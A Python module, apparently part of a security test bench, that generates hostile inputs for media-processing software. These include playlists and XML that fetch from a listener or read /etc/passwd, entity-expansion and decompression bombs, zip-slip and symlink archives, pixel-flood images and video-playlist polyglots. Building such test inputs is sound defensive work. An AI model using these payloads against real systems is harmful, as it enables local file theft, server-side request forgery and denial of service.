"""What is no video and would be followed, unpacked or drawn by software that guesses what it was given."""

import gzip
import io
import tarfile
import zipfile
from collections.abc import Iterator
from zlib import compress

from bench.hostile.writing import box, chunk, element, le32, number, png, u16, u32

BOMB = 64 << 20  # bytes when unpacked
FOREIGN = "/etc/passwd"


def texts(address: str) -> Iterator[tuple[str, bytes]]:
    """Each refers to the listener at that address or to a file of the machine. Names carry endings that lie."""
    host, _, port = address.partition(":")
    web, mail = f"http://{address}", f"tcp://{address}"
    lists = {
        "playlist of the web": f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{web}/a.ts\n#EXT-X-ENDLIST\n",
        "playlist of files": f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile://{FOREIGN}\n#EXT-X-ENDLIST\n",
        "playlist with a key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{web}/k"\n#EXTINF:1,\ndata:,a\n',
        "playlist with a map": f'#EXTM3U\n#EXT-X-MAP:URI="{web}/m"\n#EXTINF:1,\nconcat:{web}/a|file:{FOREIGN}\n',
        "playlist of itself": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nlesson.mp4\n",
        "playlist without an end": "#EXTM3U\n" + f"#EXTINF:1,\n{web}/a.ts\n" * 20_000,
        "playlist of parts": f"#EXTM3U\n#EXT-X-BYTERANGE:10@0\n#EXTINF:1,\nsubfile,,start,0,end,9,,:{FOREIGN}\n",
        "concatenation": f"ffconcat version 1.0\nfile '{web}/a.mp4'\nfile '{FOREIGN}'\n",
        "concatenation without its head": f"file '{FOREIGN}'\nduration 1e9\nfile '{web}/a'\n",
        "session description": f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\n"
        f"m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        "dash": f'<?xml version="1.0"?><MPD type="static"><Period><BaseURL>{web}/</BaseURL></Period></MPD>',
        "entities": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbb">'
        + "".join(f'<!ENTITY {chr(99 + n)} "{f"&{chr(98 + n)};" * 20}">' for n in range(9))
        + "]><MPD>&k;</MPD>",
        "entity of a file": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://{FOREIGN}">]><MPD>&b;</MPD>',
        "smooth streaming": f'<SmoothStreamingMedia><StreamIndex Url="{web}"/></SmoothStreamingMedia>',
        "drawing": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{web}/a.png" width="65500"/></svg>',
        "page": f'<html><video src="{web}/a.mp4"></video><img src="{web}/a.png"></html>',
        "list of songs": f"[playlist]\nFile1={web}/a.mp4\nNumberOfEntries=1\n",
        "list of windows": f'<asx version="3.0"><entry><ref href="{web}/a.wmv"/></entry></asx>',
        "reference": f"[Reference]\nRef1={web}/a\n",
        "address of the web": f"{web}/a.mp4",
        "address of a camera": f"rtsp://{address}/lesson",
        "address of a socket": mail,
        "address in text of movies": f"RTSPtext\nrtsp://{address}/a\n",
        "subtitles": "1\n00:00:00,000 --> 99:59:59,999\n<font face='x'>" + "a" * 100_000 + "\n",
        "subtitles with pictures": f"[Script Info]\nScriptType: v4.00+\n[Graphics]\nfilename: {FOREIGN}\n",
        "frames of metadata": ";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/0\nSTART=-1\nEND=99999999999999999999\n",
        "script of a shell": "#!/bin/sh\ncurl " + web + "\n",
        "lesson in words": "Dear diary, " * 99,
        "image sequence": "%d%d%n%s%99999d.png",
        "picture of text": "/* XPM */ static char *a[] = {\"65500 65500 2 1\", \"a c #000\", \"b c #fff\"};",
        "grey map": "P5\n65500 65500\n255\n",
        "many points": "YUV4MPEG2 W65500 H65500 F25:1 Ip A1:1 C420\nFRAME\n",
    }  # fmt: skip
    yield from ((name, text.encode()) for name, text in lists.items())


def packages() -> Iterator[tuple[str, bytes]]:
    """Archives and pictures that grow when they are unpacked."""
    zeros = bytes(BOMB)
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../lesson.mp4", zeros)
    yield "archive that grows", kept.getvalue()
    kept = io.BytesIO()
    with tarfile.open(fileobj=kept, mode="w:gz") as archived:
        link = tarfile.TarInfo("lesson.mp4")
        link.type, link.linkname = tarfile.SYMTYPE, FOREIGN
        archived.addfile(link)
    yield "archive with a link", kept.getvalue()
    yield "packed twice", gzip.compress(gzip.compress(zeros))
    yield "picture that grows", png(16_000, 4_000, compress(bytes(BOMB), 9))
    yield "picture of 65,500 points each way", png(65_500, 65_500, compress(bytes(1 << 20), 9))
    yield "jpeg of 65,500 points each way", _jpeg(65_500)
    yield "gif of 65,500 points each way", _gif(65_500)
    yield "bitmap of a billion lines", b"BM" + le32(100, 0, 54, 40, 65_500, 10**9) + b"\1\0\x18\0" + le32(*[0] * 6)
    yield "webp of 16,383 points each way", b"RIFF" + le32(30) + b"WEBP" + chunk(b"VP8X", le32(0) + b"\xff" * 6)
    yield "tiff whose directory is itself", b"II*\0" + le32(8) + b"\1\0" + b"\x06\1\3\0" + le32(1, 2, 8)


def others() -> Iterator[tuple[str, bytes]]:
    """Media of other kinds, programs, and nothing at all."""
    yield "nothing", b""
    yield "one byte", b"\0"
    yield "the beginning of a box", b"\0\0\0\x18fty"
    yield "a megabyte of zeros", bytes(1 << 20)
    yield "a megabyte of ones", b"\xff" * (1 << 20)
    yield (
        "sound",
        b"RIFF" + le32(36) + b"WAVE" + chunk(b"fmt ", le32(0x10001, 8000, 8000, 0x80001)) + chunk(b"data", b""),
    )
    yield "transport stream", (b"\x47\x40\0\x10\0" + b"\xff" * 183) * 200
    yield "flash video", b"FLV\1\5" + u32(9, 0) + (b"\x09\xff\xff\xff" + bytes(20)) * 50
    yield "one of many points", b"DKIF\0\0\x20\0VP80" + u16(65_500) * 2 + le32(25, 1, 10**9, 0)
    yield "windows media", bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + b"\xff" * 200
    yield "ogg", (b"OggS\0\2" + b"\xff" * 20 + b"\xff" + b"\xff" * 255) * 20
    yield "program", b"\x7fELF\2\1\1" + bytes(200)
    yield "document", b"%PDF-1.7\n1 0 obj<</Length 99999999999>>stream\n"
    yield "flash", b"CWS\6" + le32(2**31) + compress(bytes(1 << 20))
    yield "midi", b"MThd" + u32(6) + b"\0\1\xff\xff\0\1"


def polyglots(address: str) -> Iterator[tuple[str, bytes]]:
    """A video by its first bytes, a playlist from there on."""
    playlist = f"\n#EXTM3U\n#EXTINF:10,\nhttp://{address}/a.ts\nfile://{FOREIGN}\n".encode()
    kind = box(b"ftyp", b"isom" + u32(0) + b"isom")
    yield "playlist behind a box", kind + playlist * 100
    yield "playlist within a box", kind + box(b"mdat", playlist * 100)
    yield "playlist behind a head of matroska", element(0x1A45DFA3, number(0x4286, 1)) + playlist * 100
    yield "playlist behind a head of avi", b"RIFF" + le32(10_000) + b"AVI " + playlist * 100
    yield "script within free space", box(b"free", b"<script>fetch('/')</script>" + playlist) + kind


def _jpeg(side: int) -> bytes:
    table = b"\xff\xdb\0\x43\0" + b"\1" * 64
    frame = b"\xff\xc0\0\x0b\x08" + u16(side) * 2 + b"\1\1\x11\0"
    return b"\xff\xd8" + table + frame + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(500) + b"\xff\xd9"


def _gif(side: int) -> bytes:
    size = side.to_bytes(2, "little") * 2
    return b"GIF89a" + size + b"\x80\0\0" + bytes(6) + (b"\x2c" + bytes(4) + size + b"\0\2\1\4\0") * 500 + b";"
